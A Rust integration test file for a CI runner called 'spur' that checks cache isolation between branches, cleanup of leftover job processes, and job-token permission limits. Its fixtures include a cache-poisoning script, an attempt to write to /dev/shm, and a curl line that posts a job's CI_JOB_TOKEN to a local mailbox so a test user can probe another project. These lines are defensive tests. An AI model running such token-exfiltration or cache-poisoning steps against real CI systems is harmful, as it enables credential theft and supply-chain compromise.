    assert!(body.to_string().contains("Reference not found"), "{body}");
    let (p, log) = run(&s, ROOT_TOKEN, pid, "main", &[]).await;
    assert_eq!(p["status"], "success", "{log}");
    assert!(!log.contains("Saving cache"), "{log}");
    let cache = s.data_dir.join("cache");
    let files = walk(&cache);
    assert!(files.is_empty(), "a pull-only cache was written: {files:?}");
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            if e.path().is_dir() {
                out.extend(walk(&e.path()));
            } else {
                out.push(e.path());
            }
        }
    }
    out
}

#[tokio::test]
async fn an_unprotected_branch_cannot_fill_a_protected_branchs_cache_or_share_dev_shm() {
    let config = r#"job:
  cache:
    key: deps
    paths: [vendor/]
  script:
    - if [ -f vendor/build.sh ]; then bash vendor/build.sh; else echo "clean cache on $CI_COMMIT_REF_NAME"; fi
    - mkdir -p vendor && echo "echo POISONED-BY-$CI_COMMIT_REF_NAME" > vendor/build.sh
    - if echo x > /dev/shm/spur-shared 2>/dev/null; then echo "LEAKED shm"; else echo "DENIED shm"; fi
"#;
    let s = Server::start_with(&["--concurrent", "1"]);
    let repo = Repo::with_files(&[(".gitlab-ci.yml", config)]);
    let ok = std::process::Command::new("git")
        .args(["branch", "feature"])
        .current_dir(repo.path())
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let pid = s.project("demo", repo.path()).await;
    let (_, feature_log) = run(&s, ROOT_TOKEN, pid, "feature", &[]).await;
    assert!(
        feature_log.contains("Checking cache for deps-non_protected"),
        "{feature_log}"
    );
    let (p, main_log) = run(&s, ROOT_TOKEN, pid, "main", &[]).await;
    assert_eq!(p["status"], "success", "{main_log}");
    assert!(main_log.contains("clean cache on main"), "{main_log}");
    assert!(!main_log.lines().any(|l| l.starts_with("POISONED")), "{main_log}");
    assert!(main_log.lines().any(|l| l == "DENIED shm"), "{main_log}");
    // The unprotected branch's own cache still works.
    let (_, again) = run(&s, ROOT_TOKEN, pid, "feature", &[]).await;
    assert!(again.lines().any(|l| l == "POISONED-BY-feature"), "{again}");
}

#[tokio::test]
async fn caches_and_artifacts_work_when_job_users_cannot_reach_spurs_binary() {
    // As root from a folder other users cannot enter (`cargo run` under /root): the job helpers
    // run from a copy beside the workspaces; as another user nothing needs copying.
    let hidden = tempfile::tempdir().unwrap();
    let binary = hidden.path().join("spur");
    std::fs::copy(env!("CARGO_BIN_EXE_spur"), &binary).unwrap();
    let config = "job:\n  cache:\n    key: k\n    paths: [c]\n  artifacts:\n    paths: [c]\n  script:\n    - cat c/f || echo first run\n    - mkdir -p c && echo cached > c/f\n";
    let s = Server::start_binary(&binary, &["--concurrent", "1"]);
    let repo = Repo::with_files(&[(".gitlab-ci.yml", config)]);
    let pid = s.project("demo", repo.path()).await;
    let (p, log) = run(&s, ROOT_TOKEN, pid, "main", &[]).await;
    assert_eq!(p["status"], "success", "{log}");
    assert!(
        log.contains("first run") && log.contains("Uploading artifacts as \"archive\""),
        "{log}"
    );
    let (p, log) = run(&s, ROOT_TOKEN, pid, "main", &[]).await;
    assert_eq!(p["status"], "success", "{log}");
    assert!(log.lines().any(|l| l == "cached"), "{log}");
}

#[tokio::test]
async fn nothing_a_job_leaves_running_outlives_it() {
    let mailbox = crate::support::Mailbox::start();
    let config = "daemon:\n  script:\n    - setsid nohup sh -c 'i=0; while true; do i=$((i+1)); curl -sf -X POST -d x \"$MAILBOX/put/beat-$i\"; sleep 0.1; done' > /dev/null 2>&1 &\n    - sleep 0.5\n";
    let s = Server::start_with(&["--concurrent", "1"]);
    let repo = Repo::with_files(&[(".gitlab-ci.yml", config)]);
    let pid = s.project("demo", repo.path()).await;
    let (p, log) = run(&s, ROOT_TOKEN, pid, "main", &[("MAILBOX", &mailbox.url)]).await;
    assert_eq!(p["status"], "success", "{log}");
    assert!(!mailbox.names().is_empty(), "the daemon never ran: {log}");
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let settled = mailbox.names().len();
    tokio::time::sleep(std::time::Duration::from_millis(1000)).await;
    assert_eq!(
        mailbox.names().len(),
        settled,
        "a process of the job still runs after it ended"
    );
}

/// The job of a project owned by `mallory`: hands its `CI_JOB_TOKEN` to the mailbox and holds.
const HOLDER: &str = "hold:\n  script:\n    - curl -sf -X POST --data-binary \"$CI_JOB_TOKEN\" \"$MAILBOX/put/token\"\n    - until curl -sf \"$MAILBOX/get/go\" > /dev/null; do sleep 0.05; done\n";

#[tokio::test]
async fn a_job_token_never_reads_more_than_its_user_may() {
    let s = Server::start_with(&["--concurrent", "2", "--allow-local-requests"]);
    let mailbox = crate::support::Mailbox::start();
    let secret_repo = Repo::with_files(&[(
        ".gitlab-ci.yml",
        "build:\n  script: [mkdir -p out, echo classified > out/secret.txt]\n  artifacts:\n    paths: [out/]\n",
    )]);
    let secret = s.project("secret", secret_repo.path()).await;
    let (built, _) = run(&s, ROOT_TOKEN, secret, "main", &[]).await;
    let (_, jobs) = send(s.root(
        Method::GET,
        &format!("/projects/{secret}/pipelines/{}/jobs", built["id"]),
    ))
    .await;
    let secret_job = jobs[0]["id"].as_u64().unwrap();

    // Mallory, a stranger to `secret`, runs a job of her own and takes its token.
    let own = Repo::with_files(&[(".gitlab-ci.yml", HOLDER)]);
    let (theirs, mallory) = users_own_project(&s, &own, "mallory").await;
    let (_, trigger) = s.trigger_token(&mallory, theirs).await;
    let form = [
        ("token", trigger.as_str()),
        ("ref", "main"),
        ("variables[MAILBOX]", mailbox.url.as_str()),
    ];
    let (status, _) = send(
        s.http
            .post(s.api(&format!("/projects/{theirs}/trigger/pipeline")))
            .form(&form),
    )
    .await;
    assert_eq!(status, 201);
    let job_token = mailbox.wait("token").await;

    // The owner of `secret` opens its job token scope as wide as it goes.
    let scope = format!("/projects/{secret}/job_token_scope");
    assert_eq!(
        send(
            s.root(Method::PATCH, &scope)
                .json(&serde_json::json!({"enabled": false}))
        )
        .await
        .0,
        204
    );
    let allow = [("target_project_id", theirs.to_string())];
    assert_eq!(
        send(s.root(Method::POST, &format!("{scope}/allowlist")).form(&allow))
            .await
            .0,
        201
    );

    let clone_url =
        format!("{}/root/secret.git", s.base).replacen("://", &format!("://gitlab-ci-token:{job_token}@"), 1);
    let ls_remote = || {
        std::process::Command::new("git")
            .args(["ls-remote", &clone_url])
            .env("GIT_TERMINAL_PROMPT", "0")
            .output()
            .unwrap()
            .status
            .success()
    };
    let artifacts = s.api(&format!("/jobs/{secret_job}/artifacts?job_token={job_token}"));
    assert!(!ls_remote(), "the job's user may not read secret's code");
    assert_eq!(send(s.http.get(&artifacts)).await.0, 403);
    let (status, _) = send(
        s.http
            .get(s.api(&format!("/projects/{secret}/pipelines")))
            .header("JOB-TOKEN", &job_token),
    )
    .await;
    assert_eq!(status, 404);

    // Control: once Mallory is a Reporter of `secret`, the same probes succeed.
    let (_, me) = send(s.as_token(&mallory, Method::GET, "/user")).await;
    s.add_member(secret, me["id"].as_u64().unwrap(), 20).await;
    assert!(ls_remote(), "the probe works");
    assert_eq!(send_raw(s.http.get(&artifacts)).await.status(), 200);
    mailbox.put("go", "1");
}
